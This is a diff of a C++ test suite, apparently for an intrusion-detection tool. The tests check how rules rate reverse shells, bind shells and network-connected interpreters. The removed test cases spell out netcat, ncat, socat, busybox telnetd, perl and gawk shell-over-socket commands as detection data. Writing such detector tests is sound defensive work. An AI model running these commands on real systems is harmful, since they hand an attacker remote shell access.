@@ -309,72 +309,6 @@ TEST_CASE("shell-on-remote-terminal: the other side of its terminal") {
   }
 }
 
-TEST_CASE("inline-code-on-network") {
-  RuleScene scene;
-  struct Row {
-    const char* path;
-    const char* option;
-    const char* code;
-    const char* told;
-  };
-  const Row row = GENERATE(values<Row>({
-      {"/usr/bin/perl", "-e", "use Socket; exec('/bin/sh -i')", "high perl(100)"},
-      {"/usr/bin/python3.11", "-c", "import socket,subprocess", "high python3.11(100)"},
-      {"/usr/bin/python3.11", "-c", "import socket; socket.socket()", "medium python3.11(100)"},
-      {"/usr/bin/php8.2", "-r", "$s=fsockopen('x',1);", "medium php8.2(100)"},
-      {"/usr/bin/gawk", "{ s = \"/inet/tcp/0/x/1\"; s |& getline }", "", "high gawk(100)"},
-      {"/usr/bin/ruby3.1", "-e", "puts 1", "low ruby3.1(100)"},
-      {"/usr/bin/python3.11",
-       "-c",
-       "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5)",
-       ""},
-  }));
-  CAPTURE(row.code);
-  const auto process = scene.run(row.path, {row.path, row.option, row.code});
-  const auto socket = scene.connect(process, 3, kHere, kThere);
-  CHECK(scene.told("inline-code-on-network") == row.told);
-  SECTION("without a socket of its own it is nothing") {
-    scene.snapshot.holders.clear();
-    CHECK(scene.told("inline-code-on-network").empty());
-  }
-  SECTION("an inherited socket is not its own") {
-    scene.at(process).parent = scene.at(scene.run("/usr/sbin/server")).pid;
-    scene.hold(socket, schema::ProcessIndex(2), 3);
-    scene.at(schema::ProcessIndex(2)).start = scene.at(process).start;
-    CHECK(scene.told("inline-code-on-network").empty());
-  }
-  SECTION("health checks are younger than two seconds") {
-    scene.at(process).start = scene.snapshot.begin.since_boot;
-    CHECK(scene.told("inline-code-on-network").empty());
-  }
-}
-
-TEST_CASE("code-from-input") {
-  RuleScene scene;
-  const auto perl = scene.run("/usr/bin/perl", {"perl"});
-  scene.connect(perl, 3, kHere, kThere);
-  scene.pipe(perl, 0, 1);
-  CHECK(scene.told("code-from-input") == "medium perl(100)");
-  SECTION("a prompt") {
-    scene.snapshot.descriptors.clear();
-    scene.terminal(perl, 1);
-    CHECK(scene.told("code-from-input") == "low perl(100)");
-  }
-  SECTION("a script") {
-    scene.give_script(perl, "/srv/a.pl");
-    CHECK(scene.told("code-from-input").empty());
-  }
-  SECTION("a title hides how it was called") {
-    scene.at(perl).command_line = std::string("worker: idle\0", 13);
-    CHECK(scene.told("code-from-input").empty());
-  }
-  SECTION("php-cgi is told its scripts") {
-    scene.program(perl).path = "/usr/bin/php-cgi8.2";
-    scene.at(perl).command_line = std::string("php-cgi\0", 8);
-    CHECK(scene.told("code-from-input").empty());
-  }
-}
-
 TEST_CASE("shell-holds-connection") {
   RuleScene scene;
   const auto shell = scene.run("/usr/bin/bash", {"bash", "/root/x.sh"});
@@ -408,188 +342,51 @@ TEST_CASE("shell-holds-listener") {
   CHECK(scene.told("shell-holds-listener") == "low bash(100)");
 }
 
-TEST_CASE("hands-out-shell: by arguments") {
-  RuleScene scene;
-  struct Row {
-    const char* path;
-    std::initializer_list<std::string_view> arguments;
-    bool listens;
-    const char* told;
-  };
-  const Row rows[] = {
-      {"/usr/bin/nc.traditional",
-       {"nc", "-lp", "4444", "-e", "/bin/sh"},
-       true,
-       "critical nc.traditional(100)"},
-      {"/usr/bin/nc.traditional",
-       {"nc", "-e/bin/bash", "x", "1"},
-       false,
-       "critical nc.traditional(100)"},
-      {"/usr/bin/ncat", {"ncat", "-lke", "/bin/bash", "4444"}, true, "critical ncat(100)"},
-      {"/usr/bin/ncat", {"ncat", "--sh-exec", "bash -i", "x", "1"}, false, "critical ncat(100)"},
-      {"/usr/bin/ncat", {"ncat", "--exec=/bin/sh", "x", "1"}, false, "critical ncat(100)"},
-      {"/usr/bin/ncat", {"ncat", "-l", "1", "-e", "/usr/bin/date"}, true, "high ncat(100)"},
-      {"/usr/bin/ncat", {"ncat", "-l", "1"}, true, ""},
-      {"/usr/bin/busybox",
-       {"busybox", "nc", "-lp", "1", "-e", "sh"},
-       true,
-       "critical busybox(100)"},
-      {"/usr/bin/busybox",
-       {"busybox", "telnetd", "-p", "1", "-l", "/bin/sh"},
-       true,
-       "critical busybox(100)"},
-      {"/usr/sbin/telnetd", {"in.telnetd", "-L", "/bin/sh"}, false, "critical telnetd(100)"},
-      {"/usr/sbin/telnetd", {"in.telnetd"}, false, ""},
-      {"/usr/bin/socat",
-       {"socat", "TCP-LISTEN:1,fork", "EXEC:/bin/bash,pty,stderr"},
-       true,
-       "critical socat(100)"},
-      {"/usr/bin/socat", {"socat", "TCP:x:1", "system:\"bash -i\""}, false, "critical socat(100)"},
-      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", "EXEC:/usr/bin/date"}, true, "high socat(100)"},
-      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", "TCP:10.0.0.1:1"}, true, ""},
-      {"/usr/bin/tcpserver", {"tcpserver", "0", "4444", "/bin/sh"}, true, "high tcpserver(100)"},
-      {"/usr/bin/ssh", {"ssh", "host", "/bin/bash"}, false, ""},
-      {"/usr/bin/kubectl", {"kubectl", "exec", "-it", "pod", "--", "/bin/bash"}, false, ""},
-      {"/usr/bin/xterm", {"xterm", "-e", "/bin/bash"}, false, ""},
-      {"/usr/bin/python3.11", {"python3", "/srv/a.py", "bash"}, true, ""},
-      {"/usr/sbin/nginx", {"nginx", "-c", "/etc/nginx/nginx.conf"}, true, ""},
-  };
-  for (const Row& row : rows) {
-    RuleScene each;
-    const auto process = each.run(row.path, row.arguments);
-    if (row.listens) {
-      each.listen(process, 3, "0.0.0.0 4444");
-    } else {
-      each.connect(process, 3, kHere, kThere);
-    }
-    CAPTURE(row.path, *each.at(process).command_line);
-    CHECK(each.told("hands-out-shell") == row.told);
-  }
-  SECTION("a renamed netcat of no package") {
-    const auto copy = scene.run_unowned("/tmp/x", {"x", "-e", "/bin/sh", "host", "1"});
-    scene.connect(copy, 3, kHere, kThere);
-    CHECK(scene.told("hands-out-shell") == "critical x(100)");
-  }
-  SECTION("a web terminal of a package in its unit") {
-    const auto ttyd = scene.run("/usr/bin/ttyd", {"ttyd", "-p", "80", "bash"});
-    scene.listen(ttyd, 3, "0.0.0.0 80");
-    CHECK(scene.told("hands-out-shell") == "high ttyd(100)");
-    scene.give_unit(ttyd, "ttyd.service");
-    CHECK(scene.told("hands-out-shell") == "medium ttyd(100)");
-  }
-}
-
-TEST_CASE("shell-below-server") {
+TEST_CASE("shell-started-by-server") {
   RuleScene scene;
   const auto nginx = scene.run("/usr/sbin/nginx", {"nginx: worker"});
   scene.listen(nginx, 6, "0.0.0.0 80");
   const auto shell = scene.run(nginx, "/usr/bin/dash", {"sh"});
   SECTION("bare, fed by a pipe") {
     scene.pipe(shell, 0, 1);
-    CHECK(scene.told("shell-below-server") == "critical dash(101)");
-    CHECK(scene.why("shell-below-server") == "it obeys its input: pipe; nginx(100) listens");
+    CHECK(scene.told("shell-started-by-server") == "critical dash(101)");
+    CHECK(scene.why("shell-started-by-server") == "it obeys its input: pipe; nginx(100) listens");
   }
   SECTION("bare, fed by nothing") {
     scene.descriptor(shell, 0, DescriptorKind::Null, "/dev/null");
-    CHECK(scene.told("shell-below-server") == "medium dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "medium dash(101)");
   }
   SECTION("a connection of its own, three generations down") {
     scene.at(shell).command_line = std::string("sh\0-c\0x\0", 8);
     const auto python = scene.run(shell, "/usr/bin/python3.11", {"python3", "/tmp/x.py"});
     const auto deep = scene.run(python, "/usr/bin/bash", {"bash", "-c", "y"});
     scene.connect(deep, 0, kHere, kThere);
-    CHECK(scene.told("shell-below-server") == "critical bash(103), low dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "critical bash(103), low dash(101)");
   }
   SECTION("CGI, piped logs: a script or a command without a connection") {
     scene.give_script(shell, "/usr/lib/cgi-bin/x.sh");
-    CHECK(scene.told("shell-below-server") == "low dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "low dash(101)");
   }
   SECTION("a script that holds the connection that its server accepted") {
     scene.give_script(shell, "/usr/local/bin/answer");
     scene.connect(shell, 0, "10.0.0.5 80", "198.51.100.7 40000");
-    CHECK(scene.told("shell-below-server") == "low dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "low dash(101)");
   }
   SECTION("people log in") {
     const auto sshd = scene.run("/usr/sbin/sshd", {"sshd"});
     scene.listen(sshd, 3, "0.0.0.0 22");
     const auto session = scene.run(sshd, "/usr/sbin/sshd", {"sshd: alice@pts/3"});
     scene.run(session, "/usr/bin/bash", {"-bash"});
-    CHECK(scene.told("shell-below-server") == "medium dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "medium dash(101)");
   }
   SECTION("pid 1 holds listeners for others, and a shell that is no child") {
     scene.listen(schema::ProcessIndex(0), 30, "0.0.0.0 111");
     scene.run("/usr/bin/bash", {"bash"});
-    CHECK(scene.told("shell-below-server") == "medium dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "medium dash(101)");
   }
   SECTION("a terminal is shell-on-remote-terminal's") {
     scene.terminal(shell, 2);
-    CHECK(scene.told("shell-below-server") == "low dash(101)");
-  }
-}
-
-TEST_CASE("fifo-relay") {
-  RuleScene scene;
-  const auto nc = scene.run("/usr/bin/nc.openbsd", {"nc", "x", "1"});
-  scene.connect(nc, 3, kHere, kThere);
-  scene.fifo(nc, 0, "/tmp/.f");
-  CHECK(scene.told("fifo-relay") == "high nc.openbsd(100)");
-  scene.give_unit(nc, "feed.service");
-  CHECK(scene.told("fifo-relay") == "low nc.openbsd(100)");
-  RuleScene quiet;
-  const auto other = quiet.run("/usr/sbin/daemon");
-  quiet.connect(other, 3, kHere, kThere);
-  quiet.fifo(other, 0, "/var/lib/daemon/control");
-  quiet.fifo(other, 5, "/tmp/other");
-  quiet.fifo(quiet.run("/usr/bin/cat"), 0, "/tmp/f");
-  CHECK(quiet.told("fifo-relay").empty());
-}
-
-TEST_CASE("tool-on-network") {
-  RuleScene scene;
-  const auto sleep = scene.run("/usr/bin/sleep");
-  scene.program(sleep).package = "coreutils";
-  const auto socket = scene.connect(sleep, 5, kHere, kThere);
-  CHECK(scene.told("tool-on-network") == "high sleep(100)");
-  SECTION("below the script that holds the connection") {
-    const auto script = scene.run("/usr/bin/bash", {"bash", "/usr/local/bin/answer"});
-    scene.hold(socket, script, 0);
-    scene.at(script).start = schema::BootTime{1};
-    scene.at(sleep).parent = scene.at(script).pid;
-    CHECK(scene.told("tool-on-network").empty());
-  }
-  SECTION("logger sends to syslog servers") {
-    scene.program(sleep).path = "/usr/bin/logger";
-    scene.program(sleep).package = "bsdutils";
-    CHECK(scene.told("tool-on-network").empty());
-  }
-  SECTION("a service of inetd") {
-    const auto inetd = scene.run("/usr/sbin/inetd");
-    scene.listen(inetd, 4, "0.0.0.0 51234");
-    scene.at(inetd).start = schema::BootTime{1};
-    scene.at(sleep).parent = scene.at(inetd).pid;
-    CHECK(scene.told("tool-on-network") == "low sleep(100)");
-  }
-}
-
-TEST_CASE("shell-behind-unix-socket") {
-  RuleScene scene;
-  const auto socat = scene.run("/usr/bin/socat", {"socat", "ABSTRACT-LISTEN:x", "EXEC:sh"});
-  scene.hold(scene.unix_socket(schema::SocketState::Listen, std::string("\0x", 2)), socat, 5);
-  const auto shell = scene.run(socat, "/usr/bin/dash", {"sh"});
-  scene.socket_pair(shell, 0, socat, 6);
-  scene.socket_pair(shell, 1, socat, 7);
-  CHECK(scene.told("shell-behind-unix-socket") == "high dash(101)");
-  SECTION("a socket of a service") {
-    scene.snapshot.sockets[0].name = "/run/relay.sock";
-    CHECK(scene.told("shell-behind-unix-socket").empty());
-  }
-  SECTION("an editor that a package vouches for") {
-    scene.program(socat).path = "/usr/bin/emacs-gtk";
-    CHECK(scene.told("shell-behind-unix-socket") == "low dash(101)");
-  }
-  SECTION("a container engine") {
-    scene.at(shell).container = "4f1c";
-    CHECK(scene.told("shell-behind-unix-socket") == "low dash(101)");
+    CHECK(scene.told("shell-started-by-server") == "low dash(101)");
   }
 }
 
